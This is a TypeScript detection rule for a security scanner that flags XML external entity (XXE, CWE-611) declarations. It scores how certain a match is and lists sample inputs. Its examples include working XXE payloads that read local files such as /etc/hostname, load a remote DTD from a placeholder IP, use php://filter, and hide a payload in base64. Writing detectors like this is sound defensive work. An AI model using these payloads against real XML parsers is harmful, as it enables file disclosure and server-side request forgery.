import { referenceKindOf } from '../../grammars/xml/reference.ts';
import { xmlGrammar } from '../../grammars/xml/xml.ts';
import { confidence } from '../../placement/confidence.ts';
import { strongest } from '../../placement/evidence.ts';
import type { ValueRule } from '../rule.ts';

/** `<!ENTITY x SYSTEM "file:///etc/passwd">` */
export const externalEntity: ValueRule = {
  id: 'xxe.external-entity',
  cwe: 'CWE-611',
  severity: 'critical',
  score: confidence.certain,
  message: 'declares an entity whose content the XML parser fetches from a file or another host',
  trigger: { literals: [['<!entity']] },
  judge: (subject) => {
    const reading = subject.tokens(xmlGrammar);
    if (!reading.complete) subject.incomplete('tokens');
    return strongest(reading.declarations, (one) => {
      if (one.kind !== 'entity' || one.external === undefined) return 0;
      const kind = referenceKindOf(one.literal);
      // Old document types include the character entities of the W3C in this way.
      if (kind === 'known' || kind === 'none') return confidence.hint;
      return kind === 'relative' ? confidence.likely : confidence.certain;
    });
  },
  examples: [
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
    "<!ENTITY % d SYSTEM 'http://203.0.113.5/d.dtd'> %d;",
    '<!DOCTYPE a [<!ENTITY b PUBLIC "any" "php://filter/resource=x">]>',
    '<![CDATA[<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.5:22/"> %p;]>]]>',
    '//48ACEARABPAEMAVABZAFAARQAgAHIAIABbADwAIQBFAE4AVABJAFQAWQAgAHgAIABTAFkAUwBUAEUATQAgACIAZgBpAGwAZQA6AC8ALwAvAHMAcgB2AC8AYQAiAD4AXQA+ADwAcgA+ACYAeAA7ADwALwByAD4A',
  ],
  lookalikes: [
    '//48AHIAPgB0AGUAYQA8AC8AcgA+AA==',
    'An <!ENTITY x SYSTEM declaration refers to another resource.',
    '<!DOCTYPE html><html lang="en"><body>&nbsp;</body></html>',
    '<!ENTITY copy "&#169;">',
  ],
};
